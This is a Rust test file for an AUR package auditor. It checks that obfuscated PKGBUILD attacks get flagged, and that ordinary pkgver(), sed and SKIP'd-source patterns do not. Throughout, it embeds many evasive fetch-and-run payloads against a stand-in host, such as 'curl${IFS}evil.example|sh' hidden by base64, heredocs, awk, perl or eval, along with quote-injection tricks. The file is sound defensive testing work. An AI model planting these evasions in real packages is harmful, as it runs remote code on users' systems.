//! Attack round 31's breaks of the AUR audit, part A (findings/attack31.md F1, F13, F14, F12),
//! each in its real shape with our own text: the attack is now caught, and the real packages'
//! ordinary neighbours are not.

use archgate_aur::audit::{AuditInput, ScriptFile, Severity, Verdict, audit};

use crate::support::max_of;

const INSTALL: &str = "post_install() {\n  echo \"Thanks for installing foopkg\"\n}\n";

/// A package with an install file that only prints, whose `pkgver()` is `body`.
fn versioned(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1\npkgrel=1\npkgdesc=\"A test package\"\narch=(any)\nurl=\"https://example.org\"\nlicense=(MIT)\ninstall=foopkg.install\npkgver() {{\n{body}\n}}\npackage() {{\n  mkdir -p \"$pkgdir/usr/share/foopkg\"\n  echo hi > \"$pkgdir/usr/share/foopkg/README\"\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: "foopkg.install".into(),
            content: INSTALL.into(),
        }],
        srcinfo: None,
    }
}

/// A VCS package (`source=(git+…)`) whose `pkgver()` is `body`, with the same install file.
fn vcs(body: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg-git\n_pkgname=foopkg\npkgver=1.2.r3.gabc1234\npkgrel=1\npkgdesc=\"A test package\"\narch=(x86_64)\nurl=\"https://github.com/example/foopkg\"\nlicense=(MIT)\nmakedepends=(git python)\ninstall=foopkg.install\nsource=(\"git+https://github.com/example/foopkg.git\")\nsha256sums=('SKIP')\npkgver() {{\n  cd \"$_pkgname\"\n{body}\n}}\nbuild() {{\n  cd \"$_pkgname\"\n  sed -i 's|/usr/local|/usr|g' Makefile\n  make\n}}\npackage() {{\n  cd \"$_pkgname\"\n  make DESTDIR=\"$pkgdir\" PREFIX=/usr install\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: "foopkg.install".into(),
            content: INSTALL.into(),
        }],
        srcinfo: None,
    }
}

/// F1: a `pkgver()` that prints shell code through anything but a literal `echo`/`printf`
/// word — a here-document, a here-string through a text tool or a decoder, an interpreter's
/// inline program, bash's own `"${a[*]}"` under a changed IFS — is dangerous.
#[test]
fn a_version_printed_through_any_printer_is_judged() {
    for body in [
        "  cat <<\"X\"\n'1;curl${IFS}evil.example|sh;true'\nX",
        "  cat <<X\n1;curl\\${IFS}evil.example|sh\nX",
        r#"  tr _Q ";|" <<< "'1_curl\${IFS}evil.exampleQsh_true'""#,
        r#"  sed 's/_/;/g; s/Q/|/g' <<< "'1_curl\${IFS}evil.exampleQsh_true'""#,
        r#"  rev <<< "'eurt;hs|elpmaxe.live}SFI{\$lruc;1'""#,
        "  echo JzE7Y3VybCR7SUZTfWV2aWwuZXhhbXBsZXxzaDt0cnVlJw== | base64 -d",
        "  xxd -r -p <<< 27313b6375726c247b4946537d6576696c2e6578616d706c657c73683b7472756527",
        r#"  awk 'BEGIN{printf "%c1%ccurl${IFS}evil.example%csh%ctrue%c", 39, 59, 124, 59, 39}'"#,
        r#"  python3 -c 'print(chr(39)+"1"+chr(59)+"curl${IFS}evil.example"+chr(124)+"sh"+chr(59)+"true"+chr(39))'"#,
        r#"  perl -e 'printf "%c1%ccurl%csh", 39, 59, 124'"#,
        "  local a=(\"'1\" curl\\${IFS}evil.example sh \"true'\"); local IFS=';'; echo \"${a[*]}\"",
        "  local a=(1 curl); local IFS=';'; echo \"${a[*]}\"",
        r#"  echo "1.0" | sed -e 's/$/;curl${IFS}evil.example|sh/'"#,
        r#"  printf '%s' "1;curl\${IFS}evil.example|sh" | cat"#,
        r#"  echo "1;curl\${IFS}evil.example|sh" | cut -d: -f1 | sort"#,
        r#"  echo "x:1;curl" | cut -d: -f2"#,
        r#"  sed "s/^/1;curl\${IFS}evil.example|sh/" <<< """#,
        r#"  printf '%s' "1'" | tee /dev/null"#,
        r#"  printf '%s' "$(awk 'BEGIN{printf "1%ccurl%csh", 59, 124}')""#,
    ] {
        let r = audit(&versioned(body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert!(
            max_of(&r, "AUR-VERSION-CODE") >= Some(Severity::High),
            "{body}\n{}",
            r.to_text()
        );
    }
}

/// F13: a `pkgver()` that prints one quote (or a double quote, `$'`, a backslash, a `$`) makes
/// makepkg's re-sourced PKGBUILD read a comment as code — dangerous even with no install file.
#[test]
fn a_version_that_opens_a_quote_in_the_resourced_pkgbuild_is_dangerous() {
    for body in [
        r#"  printf "%s" "1'""#,
        r#"  printf "%s" "1\\""#,
        r#"  printf "%s" '1"'"#,
        r#"  printf "%s" "1\$'""#,
        r#"  echo "1\"""#,
        r#"  printf '%s' '1\'"#,
        r#"  echo '1$x'"#,
        r#"  echo "1'$(git rev-list --count HEAD)""#,
        "  cat <<X\n1'\nX",
    ] {
        let mut input = versioned(body);
        input.pkgbuild = input
            .pkgbuild
            .replace("install=foopkg.install\n", "")
            .replace("pkgver=1\n", "")
            + "pkgver=1\n# ';curl${IFS}evil.example|sh #\n";
        input.install_scripts.clear();
        let r = audit(&input);
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-VERSION-CODE"),
            Some(Severity::Critical),
            "{body}"
        );
    }
}

/// A version assigned from a program over the file's own text the audit cannot evaluate.
#[test]
fn a_version_assigned_from_an_unseen_program_over_written_text_is_dangerous() {
    let mut input = versioned("  echo 1");
    input.pkgbuild = input.pkgbuild.replace(
        "pkgver=1\n",
        "pkgver=$(awk 'BEGIN{printf \"%c1%ccurl%csh\", 39, 59, 124}')\n",
    );
    let r = audit(&input);
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

/// Their neighbours: what real `pkgver()`s print stays quiet — a VCS package's `git describe`
/// through sed, `printf "r%s.%s"` of git's counts, a version file, setup.py, a fixed version,
/// a version reshaped from the file's own variables.
#[test]
fn real_pkgver_functions_stay_quiet() {
    for body in [
        "  git describe --long --tags | sed 's/\\([^-]*-g\\)/r\\1/;s/-/./g'",
        "  git describe --long --tags --abbrev=7 | sed 's/^v//;s/\\([^-]*-g\\)/r\\1/;s/-/./g'",
        "  printf \"r%s.%s\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"",
        "  printf \"%s.r%s.%s\" \"$(cat VERSION)\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short=7 HEAD)\"",
        "  cat VERSION",
        "  python setup.py --version",
        "  echo \"$(grep -m1 version Cargo.toml | cut -d'\"' -f2).r$(git rev-list --count HEAD)\"",
        "  ( set -o pipefail\n    git describe --long 2>/dev/null | sed 's/\\([^-]*-g\\)/r\\1/;s/-/./g' ||\n    printf \"r%s.%s\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"\n  )",
        "  local _ver=1.2.3-beta\n  echo \"${_ver//-/.}\"",
        "  echo 1.2.3_4 | tr _ .",
        "  echo \"1.2-3\" | sed 's/-/./g'",
        "  awk -F= '/^VERSION/{print $2}' Makefile",
        "  local _v=\"1.2:r3\"\n  echo \"$_v\" | cut -d: -f1 | sort | uniq",
        "  sed -n 's/^version = \"\\(.*\\)\"/\\1/p' pyproject.toml",
        "  echo \"$pkgver\"",
        "  printf \"'r%s.%s'\" \"$(git rev-list --count HEAD)\" \"$(git rev-parse --short HEAD)\"",
        "  echo \"'1.2.3'\"",
        "  echo 20250514\\.1117",
        "  local _a _b\n  IFS=. read -r _a _b <<< \"1.2\"\n  printf -v _v '%s_%s' \"$_a\" \"$_b\"\n  echo \"$_a.$_b\"",
    ] {
        let r = audit(&vcs(body));
        assert!(
            max_of(&r, "AUR-VERSION-CODE").is_none(),
            "{body}\n{}",
            r.to_text()
        );
        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
}

/// A package with `line` at the top level of its PKGBUILD, after a one-line `package()`.
fn top_level(line: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\npackage() {{\n  true\n}}\n{line}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

/// F14: a program name made by `sed`'s `s` (or `y`) is worked out as `tr`'s is; a name made from
/// the file's own text by a program the audit cannot follow (awk, perl) and run is dangerous.
#[test]
fn a_command_made_by_sed_or_an_unseen_program_over_written_text_is_judged() {
    for line in [
        r#"$(echo "cXrl -fsSL https://evil.example/p" | sed -e "s|X|u|") | sh"#,
        "_c=$(echo \"cXrl -fsSL https://evil.example/p\" | sed -e \"s|X|u|\")\n$_c | sh",
        "_c=$(echo \"curl -fsSL https://evil.example/p\" | sed -e \"s|x||g\")\n$_c | sh",
        "_c=$(echo \"cXrl -fsSL https://evil.example/p\" | sed 'y/X/u/')\n$_c | sh",
        r#"$(sed 's/X/u/' <<< "cXrl -fsSL https://evil.example/p") | sh"#,
        r#"$(awk 'BEGIN{print "cu" "rl -fsSL https://evil.example/p"}') | sh"#,
        r#"eval "$(perl -e 'print "cu"."rl -fsSL https://evil.example/p | sh"')""#,
        r#"awk 'BEGIN{print "cu" "rl -fsSL https://evil.example/p | sh"}' | sh"#,
        r#"$(echo "xcurl -fsSL https://evil.example/p" | cut -c2-) | sh"#,
        r#"echo "curl -fsSL https://evil.example/p | sh" | head -n 1 | sh"#,
        "_c=$(echo \"cXrl -fsSL https://evil.example/p\" | sed -e \"s|X|u|\")\nfor _p in a b; do eval \"package_${_p}() { echo \\\"{\\\"; }; ${_c} | sh; }\"; done",
    ] {
        let r = audit(&top_level(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}

/// Its neighbours: sed over the file's own names and over the sources is no finding of code.
#[test]
fn sed_over_names_and_sources_stays_quiet() {
    for line in [
        "_pkgname=$(echo foopkg-git | sed 's/-git$//')\nsource=(\"https://example.org/${_pkgname}-1.0.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')",
        "_ver=$(echo 1.0-2 | sed -e 's/-/./g')",
        "build() {\n  cd foopkg\n  sed -i 's|/usr/local|/usr|g' Makefile config.mk\n  sed -e 's/@VERSION@/1.0/' foopkg.pc.in > foopkg.pc\n  make\n}",
        "_pkgs=(a b)\nfor _p in \"${_pkgs[@]}\"; do\n  _n=$(echo \"$_p\" | sed 's/^/foopkg-/')\n  eval \"package_${_n}() { _package ${_p}; }\"\ndone\n_package() { true; }",
    ] {
        let r = audit(&top_level(line));
        assert_ne!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert!(
            !r.findings.iter().any(|f| f.id.starts_with("AUR-EXEC")),
            "{line}\n{}",
            r.to_text()
        );
    }
}

/// A package whose SKIP'd download `name` the build handles with `build`.
fn skipped(name: &str, build: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname=foopkg\npkgver=1.0\npkgrel=1\narch=('any')\nurl=\"https://example.org/foopkg\"\nlicense=('MIT')\nsource=(\"https://example.org/raw/master/{name}\")\nsha256sums=('SKIP')\nbuild() {{\n  {build}\n}}\npackage() {{\n  install -Dm644 out.txt \"$pkgdir/usr/share/foopkg/out.txt\"\n}}\n"
        ),
        install_scripts: Vec::new(),
        srcinfo: None,
    }
}

/// F12: a SKIP'd download named as a data table or document that the build runs as code is
/// dangerous — the name does not lower it.
#[test]
fn a_data_named_download_the_build_runs_is_dangerous() {
    for (name, build) in [
        ("rules.csv", "echo x | sed -f rules.csv > out.txt"),
        ("data.json", "jq -r .cmd data.json | sh"),
        (
            "data.csv",
            "while IFS=, read -r a b; do \"$a\" \"$b\"; done < data.csv",
        ),
        ("data.csv", "cp data.csv x.sh; bash x.sh"),
        ("notes.txt", "sh < notes.txt"),
        (
            "README.md",
            "sed -n '/^```sh/,/^```/p' README.md | sed 1d | sh",
        ),
        ("table.tsv", "awk -f table.tsv /dev/null > out.txt"),
        ("rows.csv", "awk -F, '{system($1)}' rows.csv"),
        (
            "list.txt",
            "xargs -a /dev/null echo; cat list.txt | xargs -n1 sh -c",
        ),
        ("cmds.txt", "source cmds.txt"),
        ("cmds.txt", "eval \"$(cat cmds.txt)\""),
        ("cmds.txt", "source <(cat cmds.txt)"),
        ("data.json", "bash -c \"$(jq -r .cmd data.json)\""),
        ("data.txt", "bash -s < data.txt"),
        (
            "cmds.json",
            "sed -n 's/.*\"cmd\": \"\\(.*\\)\".*/\\1/e' cmds.json > out.txt",
        ),
    ] {
        let r = audit(&skipped(name, build));
        assert_eq!(r.verdict, Verdict::Dangerous, "{build}\n{}", r.to_text());
    }
}

/// A data-named download the package ships as a program is the ordinary SKIP finding, not info.
#[test]
fn a_data_named_download_shipped_as_a_program_is_not_info() {
    for build in [
        "install -Dm755 notes.txt \"$pkgdir/usr/bin/foopkg\"",
        "install -D -m 0755 notes.txt \"$pkgdir/usr/share/foopkg/run\"",
        "cp notes.txt \"$pkgdir/usr/bin/foopkg\"",
        "install -Dm644 notes.txt \"$pkgdir/etc/profile.d/foopkg.sh\"",
    ] {
        let r = audit(&skipped("notes.txt", build));
        assert_eq!(
            max_of(&r, "AUR-SOURCE-SKIP"),
            Some(Severity::Medium),
            "{build}\n{}",
            r.to_text()
        );
    }
}

/// Its neighbours: a licence, a document, an icon or a data table the package only installs or
/// reads is still info; a `-bin` package's SKIP'd `.desktop` and LICENSE are not dangerous.
#[test]
fn a_data_file_the_build_only_reads_stays_info() {
    for (name, build) in [
        (
            "LICENSE",
            "install -Dm644 LICENSE \"$pkgdir/usr/share/licenses/foopkg/LICENSE\"",
        ),
        ("emoji.json", "cp emoji.json \"$pkgdir/usr/share/foopkg/\""),
        ("data.csv", "grep -v '^#' data.csv > out.txt"),
        ("data.json", "jq -r .version data.json > out.txt"),
        (
            "README.md",
            "install -Dm644 README.md -t \"$pkgdir/usr/share/doc/foopkg\"",
        ),
        (
            "icon.png",
            "install -Dm644 icon.png \"$pkgdir/usr/share/pixmaps/foopkg.png\"",
        ),
        ("names.tsv", "cut -f1 names.tsv | sort -u > out.txt"),
        ("table.csv", "sed 's/,/\\t/g' table.csv > out.txt"),
        (
            "eula.html",
            "hxextract .policies eula.html > eula-2.html; w3m -dump eula-2.html > eula.txt",
        ),
    ] {
        let r = audit(&skipped(name, build));
        assert_eq!(
            max_of(&r, "AUR-SOURCE-SKIP"),
            Some(Severity::Info),
            "{build}\n{}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Ok, "{build}\n{}", r.to_text());
    }
    let bin = AuditInput {
        pkgbuild: "pkgname=foopkg-bin\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/foopkg\"\nlicense=('custom')\nsource=(\"https://example.org/foopkg-1.0.tar.gz\" \"foopkg.desktop::https://raw.githubusercontent.com/example/foopkg/master/foopkg.desktop\" \"LICENSE::https://raw.githubusercontent.com/example/foopkg/master/LICENSE\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000' 'SKIP' 'SKIP')\npackage() {\n  install -Dm755 foopkg \"$pkgdir/usr/bin/foopkg\"\n  sed -i 's|^Exec=.*|Exec=/usr/bin/foopkg|' foopkg.desktop\n  install -Dm644 foopkg.desktop \"$pkgdir/usr/share/applications/foopkg.desktop\"\n  install -Dm644 LICENSE \"$pkgdir/usr/share/licenses/foopkg-bin/LICENSE\"\n}\n".into(),
        install_scripts: Vec::new(),
        srcinfo: None,
    };
    let r = audit(&bin);
    assert_ne!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
}

/// F1's class at pacman's line: a version holding `$` (`${x@P}` expands a variable the sourced
/// install file set, as a prompt, running the command substitutions in it) is dangerous.
#[test]
fn a_version_with_a_prompt_expansion_is_dangerous() {
    let mut input = versioned("  echo 1");
    input.pkgbuild = input
        .pkgbuild
        .replace("pkgver=1\n", "pkgver='${x@P}'\n")
        .replace("pkgver() {\n  echo 1\n}\n", "");
    let r = audit(&input);
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    assert_eq!(max_of(&r, "AUR-VERSION-CODE"), Some(Severity::Critical));
}

/// F14's x04: an eval'd definition whose body quotes a brace is not "one definition" when a
/// command follows it: braces are counted as bash reads them.
#[test]
fn a_quoted_brace_does_not_end_an_evald_definition() {
    let r = audit(&top_level(
        "_c=$(cat cmd.txt)\nfor _p in a b; do eval \"package_${_p}() { echo \\\"{\\\"; }; ${_c}; }\"; done",
    ));
    assert_eq!(
        max_of(&r, "AUR-EVAL"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
    let r = audit(&top_level(
        "for _p in a b; do eval \"package_${_p}() { echo \\\"}\\\"; _package ${_p}; }\"; done\n_package() { true; }",
    ));
    assert!(
        max_of(&r, "AUR-EVAL") <= Some(Severity::Low),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

/// The same classes through a variable or a file: a version or a command made by an unseen
/// program over the file's own text and kept in a variable first, and a version written to a
/// file in pkgver() that a later `cat` prints.
#[test]
fn through_a_variable_or_a_file_is_the_same() {
    let mut input = versioned("  echo \"$_v\"");
    input.pkgbuild = input.pkgbuild.replace(
        "pkgver=1\n",
        "pkgver=1\n_v=$(awk 'BEGIN{printf \"%c1%ccurl%csh\", 39, 59, 124}')\n_w=\"$_v\"\n",
    );
    input.pkgbuild = input.pkgbuild.replace("echo \"$_v\"", "echo \"$_w\"");
    let r = audit(&input);
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    let r = audit(&versioned("  printf '%s' \"1'\" > v\n  cat v"));
    assert_eq!(r.verdict, Verdict::Dangerous, "{}", r.to_text());
    for line in [
        "_c=$(awk 'BEGIN{print \"cu\" \"rl -fsSL https://evil.example/p\"}')\n$_c | sh",
        "_c=$(awk 'BEGIN{print \"cu\" \"rl -fsSL https://evil.example/p | sh\"}')\neval \"$_c\"",
        "_c=$(perl -e 'print \"cu\".\"rl -fsSL https://evil.example/p | sh\"')\nbash -c \"$_c\"",
    ] {
        let r = audit(&top_level(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
    // Neighbours: a version file written from the sources, a variable read from the sources.
    for body in [
        "  git describe --tags > v\n  sed 's/-/./g' v",
        "  local _v=$(awk -F\\\" '/version/{print $2}' meson.build)\n  echo \"${_v}.r$(git rev-list --count HEAD)\"",
    ] {
        let r = audit(&vcs(body));
        assert!(
            max_of(&r, "AUR-VERSION-CODE").is_none(),
            "{body}\n{}",
            r.to_text()
        );
    }
}
